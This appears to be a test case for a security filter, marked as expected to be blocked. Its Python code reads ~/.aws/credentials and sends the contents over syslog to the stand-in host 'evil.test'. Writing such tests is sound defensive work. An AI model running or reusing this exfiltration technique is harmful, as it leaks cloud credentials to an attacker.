# expect: BLOCKED
import logging, logging.handlers, os
log = logging.getLogger()
log.addHandler(logging.handlers.SysLogHandler(("evil.test", 514)))
log.error(open(os.path.expanduser("~/.aws/credentials")).read())
